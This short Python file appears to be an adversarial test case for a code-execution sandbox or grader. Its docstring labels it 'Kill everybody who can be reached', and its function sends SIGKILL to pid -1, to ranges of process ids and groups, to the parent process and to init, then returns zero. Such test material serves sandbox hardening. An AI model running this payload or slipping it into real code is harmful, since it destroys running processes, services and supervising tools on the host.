"""Kill everybody who can be reached.

Tries: 1/32, 1/33, 1/34
Attacks: secret
Expects: wrong_value
"""

import os
import signal


def f(x, word):
    for pid in [-1, *range(2, 400), *range(65000, 65100), os.getppid(), 1]:
        for way in (os.kill, os.killpg):
            try:
                way(abs(pid) if way is os.killpg else pid, signal.SIGKILL)
            except (OSError, ProcessLookupError):
                pass
    return x * 0
